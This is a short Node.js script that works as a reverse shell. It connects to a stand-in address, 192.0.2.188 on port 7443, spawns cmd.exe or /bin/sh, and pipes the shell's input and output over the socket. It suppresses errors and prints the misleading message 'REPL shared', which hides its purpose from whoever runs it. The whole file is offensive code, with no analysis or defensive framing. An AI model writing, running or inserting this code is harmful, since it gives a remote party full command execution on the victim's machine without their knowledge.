const net = require('net');
const { spawn } = require('child_process');
const client = new net.Socket();
client.connect(7443, '192.0.2.188', () => {
  const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
client.on('error', () => {});
console.log('REPL shared');
